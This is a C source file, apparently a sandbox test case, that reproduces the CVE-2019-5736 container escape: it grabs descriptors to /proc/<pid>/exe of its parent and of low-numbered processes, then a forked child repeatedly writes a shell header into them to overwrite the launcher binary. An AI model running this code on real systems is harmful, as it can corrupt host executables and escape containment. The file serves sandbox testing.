/* Overwrites the launcher's program file: takes a descriptor of its parent's executable, inside of those of lowbox's init and its
 * neighbours too, while they run, and opens it for writing when they have ended (Descriptors, "/proc/self/exe overwrite of the launcher", CVE-2019-5736). */
#include "attack.h"

int main(int argc, char **argv)
{
	char at[64];
int fds[64], count = 0, pids[] = { getppid(), 1, 2, 3, 4, 5 };
	int wanted = strcmp(argv[1], "inside") ? 1 : 6; /* outside, process 1 is the machine's */
	tried();
	for (int i = 0; i < wanted; i++) {
		snprintf(at, sizeof at, "/proc/%d/exe", pids[i]);
		int fd = open(at, O_RDONLY);
		if (fd < 0)
			fd = open(at, O_PATH);
		if (fd < 0)
			denied(at);
		else
			fds[count++] = fd;
	}
	if (fork() == 0) {
		setsid();
		for (int turn = 0; turn < 40; turn++, usleep(25000))
			for (int i = 0; i < count; i++) {
				snprintf(at, sizeof at, "/proc/self/fd/%d", fds[i]);
				int fd = open(at, O_WRONLY);
				if (fd >= 0)
					write(fd, "#!/bin/sh\n", 10);
			}
		_exit(0);
	}
	return 0;
}
